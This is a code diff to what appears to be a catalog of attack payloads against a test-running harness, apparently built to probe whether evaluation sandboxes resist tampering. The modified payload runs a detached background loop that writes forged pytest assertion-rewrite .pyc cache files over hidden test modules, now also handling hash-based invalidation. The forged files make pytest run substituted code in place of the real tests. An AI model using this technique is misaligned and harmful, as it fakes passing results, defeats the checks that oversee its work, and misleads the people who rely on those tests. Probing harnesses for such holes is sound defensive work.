@@ -32,8 +32,12 @@ py_compile.compile("/tmp/lie.py", target, dfile=path, invalidation_mode=py_compi
         title="The runner's cache of rewritten test modules is forged as soon as the hidden tests arrive",
         script=payloads.DETACH
         + f"""
-detach('import importlib.util, marshal, pytest, struct' + {payloads.WATCH!r} + r'''
+detach(r'''
+import importlib.util, inspect, marshal, pytest, struct
+import _pytest.assertion.rewrite as rewrite
+''' + {payloads.WATCH!r} + r'''
 sys.pycache_prefix = None
+by_hash = "source_hash" in inspect.getsource(rewrite._read_pyc)
 while True:
     for path in seen:
         try:
@@ -47,7 +51,9 @@ while True:
         tag = "%s-pytest-%s.pyc" % (sys.implementation.cache_tag, pytest.__version__)
         os.makedirs(folder + "/__pycache__", exist_ok=True)
         stamp = struct.pack("<II", int(stat.st_mtime) & 0xFFFFFFFF, stat.st_size)
-        data = importlib.util.MAGIC_NUMBER + bytes(4) + stamp
+        if by_hash:
+            stamp = importlib.util.source_hash(open(path, "rb").read())
+        data = importlib.util.MAGIC_NUMBER + bytes([3 * by_hash, 0, 0, 0]) + stamp
         temporary = folder + "/__pycache__/.new"
         open(temporary, "wb").write(data + marshal.dumps(code))
         os.replace(temporary, folder + "/__pycache__/" + name[:-3] + "." + tag)
